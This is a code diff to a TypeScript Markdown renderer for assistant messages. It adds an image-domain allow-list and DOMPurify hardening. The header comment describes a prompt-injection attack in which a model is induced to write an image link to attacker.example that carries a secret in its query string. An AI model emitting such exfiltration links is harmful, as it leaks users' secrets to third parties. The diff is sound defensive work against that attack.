@@ -2,10 +2,14 @@
  * Markdown to safe HTML for assistant messages: `marked` (GitHub-flavoured) renders, raw HTML in
  * the source is shown as text (never passed through), and DOMPurify sanitises the result.
  * Links open in a new tab without access to this page.
+ *
+ * Images load only from this page's origin or an allowed domain. A model can be talked into
+ * writing `![x](https://attacker.example/leak?<secret>)` (prompt injection); the browser would
+ * fetch it and leak the query string, so any other image becomes a plain link instead.
  * @module
  */
 import DOMPurify from "dompurify";
-import { Marked } from "marked";
+import { Marked, type Tokens } from "marked";
 
 const ESCAPES: Record<string, string> = {
   "&": "&amp;",
@@ -20,6 +24,39 @@ export function escapeHtml(text: string): string {
   return text.replace(/[&<>"']/g, (c) => ESCAPES[c]);
 }
 
+/** Where images may come from, besides the page's own origin. */
+export interface MarkdownOptions {
+  /** Host names whose images are shown (`example.com` also allows `img.example.com`). */
+  imageDomains?: readonly string[];
+}
+
+/**
+ * Whether an image URL may be loaded: a `data:` image (no request is made), the page's own
+ * origin, or http(s) on an allowed domain or one of its subdomains.
+ */
+export function imageAllowed(
+  src: string,
+  domains: readonly string[],
+  base = globalThis.location?.href,
+): boolean {
+  let url: URL;
+  try {
+    url = new URL(src, base);
+  } catch {
+    return false;
+  }
+  if (url.protocol === "data:") return /^data:image\/(png|gif|jpeg|webp);/i.test(src);
+  if (base && url.origin === new URL(base).origin) return true;
+  if (url.protocol !== "https:" && url.protocol !== "http:") return false;
+  const host = url.hostname.toLowerCase();
+  return domains.some((d) => {
+    const domain = d.toLowerCase().replace(/^\*?\./, "");
+    return host === domain || host.endsWith(`.${domain}`);
+  });
+}
+
+let imageDomains: readonly string[] = [];
+
 const marked = new Marked({
   gfm: true,
   breaks: true,
@@ -27,13 +64,21 @@ const marked = new Marked({
   renderer: {
     // Raw HTML in a message is displayed literally.
     html: ({ text }) => escapeHtml(text),
+    image({ href, title, text }: Tokens.Image) {
+      const titleAttr = title ? ` title="${escapeHtml(title)}"` : "";
+      if (imageAllowed(href, imageDomains)) {
+        return `<img src="${escapeHtml(href)}" alt="${escapeHtml(text)}"${titleAttr}>`;
+      }
+      // Not fetched: shown as a link the user may choose to follow.
+      return `<a href="${escapeHtml(href)}"${titleAttr}>${escapeHtml(text || href)}</a>`;
+    },
   },
 });
 
 let hooked = false;
 
 /** Renders Markdown to sanitised HTML (browser only: DOMPurify needs a DOM). */
-export function renderMarkdown(source: string): string {
+export function renderMarkdown(source: string, options: MarkdownOptions = {}): string {
   if (!DOMPurify.isSupported) return escapeHtml(source);
   if (!hooked) {
     hooked = true;
@@ -42,11 +87,30 @@ export function renderMarkdown(source: string): string {
         node.setAttribute("target", "_blank");
         node.setAttribute("rel", "noopener noreferrer nofollow");
       }
+      // Second line of defence: whatever produced it, no other image is ever fetched.
+      if (node.tagName === "IMG" && !imageAllowed(node.getAttribute("src") ?? "", imageDomains)) {
+        node.removeAttribute("src");
+      }
     });
   }
+  imageDomains = options.imageDomains ?? [];
   const html = marked.parse(source) as string;
   return DOMPurify.sanitize(html, {
-    FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "iframe"],
-    FORBID_ATTR: ["style"],
+    FORBID_TAGS: [
+      "style",
+      "form",
+      "input",
+      "button",
+      "textarea",
+      "select",
+      "iframe",
+      "picture",
+      "source",
+      "video",
+      "audio",
+      "object",
+      "embed",
+    ],
+    FORBID_ATTR: ["style", "srcset"],
   });
 }
